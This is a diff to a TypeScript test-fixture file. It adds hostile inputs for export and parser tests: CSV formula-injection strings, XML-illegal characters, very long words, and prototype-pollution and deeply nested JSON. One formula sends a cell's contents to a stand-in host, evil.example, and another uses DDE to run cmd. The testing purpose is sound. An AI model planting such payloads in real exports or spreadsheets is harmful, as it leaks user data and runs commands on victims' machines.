@@ -2,6 +2,44 @@
 // strings, injection attempts, truncated JSON, CSV with wrong columns).
 import fc from 'fast-check';
 
+/**
+ * Text a spreadsheet would run as a formula (or DDE) if a CSV export wrote it as it is: every
+ * text cell of every export gets each of them in the export tests.
+ */
+export const FORMULA_STRINGS = [
+  '=HYPERLINK("http://evil.example/?"&A1;"Klicka")',
+  '=1+1',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1;2)',
+  '\t=1+1',
+  '\r=1+1',
+];
+
+/**
+ * Text no stored field may hold: characters XML 1.0 forbids (a Word file with one does not open)
+ * and NUL. Every text field that reaches a report gets each of them in the input tests.
+ */
+export const WORD_ILLEGAL_STRINGS = [
+  'a\uFFFEb',
+  'end\uFFFF',
+  'bell\u0007',
+  '\u000B',
+  'esc\u001B[31m',
+  'lone \uD800 high',
+  '\uDFFF low',
+  'nul\u0000',
+];
+
+/**
+ * Words with no place to break: every rendered output (web pages, HTML, PDF and Word reports)
+ * must wrap them, never clip them or grow wider than its page.
+ */
+export const LONG_WORDS = [
+  `https://www.example.org/kommunkompassen/rapporter/${'a'.repeat(40)}/styrkor-och-forbattringar.html`,
+  `Kommunstyrelse${'förvaltnings'.repeat(12)}organisationen`,
+];
+
 /** Strings that have broken parsers, queries or templates somewhere. */
 export const NASTY_STRINGS = [
   '',
@@ -36,6 +74,9 @@ export const NASTY_STRINGS = [
   '${7*7}',
   '{{7*7}}',
   '=HYPERLINK("http://x")',
+  ...FORMULA_STRINGS,
+  ...WORD_ILLEGAL_STRINGS,
+  ...LONG_WORDS,
   '\uD800',
   '\uDFFF\uD800',
   '\u202Eevil',
@@ -143,6 +184,10 @@ export function hostileJsonText(keys: string[]): fc.Arbitrary<string> {
         '\uFEFF{}',
         '{"version":1e999}',
         `${'['.repeat(5000)}${']'.repeat(5000)}`,
+        `{"format":"kommunkompassen-evaluation/1","x":${'['.repeat(10_000)}${']'.repeat(10_000)}}`,
+        '{"__proto__":{"format":"kommunkompassen-evaluation/1"}}',
+        '{"constructor":{"prototype":{}}}',
+        '{"name":"a\\uFFFEb","code":"\\uD800"}',
       ),
     },
   );
